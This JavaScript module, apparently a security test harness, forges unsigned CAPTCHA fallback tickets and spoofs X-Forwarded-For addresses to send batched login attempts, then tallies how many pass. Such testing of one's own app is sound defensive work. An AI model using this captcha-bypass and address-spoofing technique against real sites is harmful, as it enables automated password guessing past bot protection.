// @ts-check

const atOnce = 20

/**
 * What an attacker would do in an outage, real or made up: type fallback tickets, each from another address, and try them at the
 * login. Fallback tickets are unsigned, so the forgeries look exactly like a visitor's own.
 *
 * @param {object} options
 * @param {string} options.origin
 * @param {number} options.captchaAppId
 * @param {number} options.count
 */
export async function attackLogin({ origin, captchaAppId, count }) {
  /** @type {Record<string, number>} */
  const statuses = {}
  const seconds = Math.floor(Date.now() / 1000)
  for (let first = 0; first < count; first += atOnce) {
    const numbers = Array.from({ length: Math.min(atOnce, count - first) }, (_, index) => first + index)
    const tries = numbers.map((number) => {
      const ticket = `trerror_1001_${captchaAppId}_${seconds}_${number}${seconds.toString(36)}${process.hrtime.bigint()}`
      return tryLogin(origin, ticket, documentationAddress(number))
    })
    for (const status of await Promise.all(tries)) statuses[status] = (statuses[status] ?? 0) + 1
  }
  return { count, passed: statuses[200] ?? 0, statuses }
}

/**
 * @param {string} origin
 * @param {string} ticket
 * @param {string} address
 */
async function tryLogin(origin, ticket, address) {
  const response = await fetch(`${origin}/login`, {
    method: 'POST',
    // The app trusts a proxy on this machine, which is what this pretends to be.
    headers: { 'content-type': 'application/json', 'x-forwarded-for': address },
    body: JSON.stringify({ name: 'mallory', password: 'guess', ticket, randstr: '@forged' }),
  })
  await response.arrayBuffer()
  return response.status
}

/**
 * Addresses that are reserved for examples, so that nobody's real one appears in a log.
 *
 * @param {number} number
 */
function documentationAddress(number) {
  const networks = ['192.0.2', '198.51.100', '203.0.113']
  return `${networks[number % networks.length]}.${1 + (Math.floor(number / networks.length) % 254)}`
}
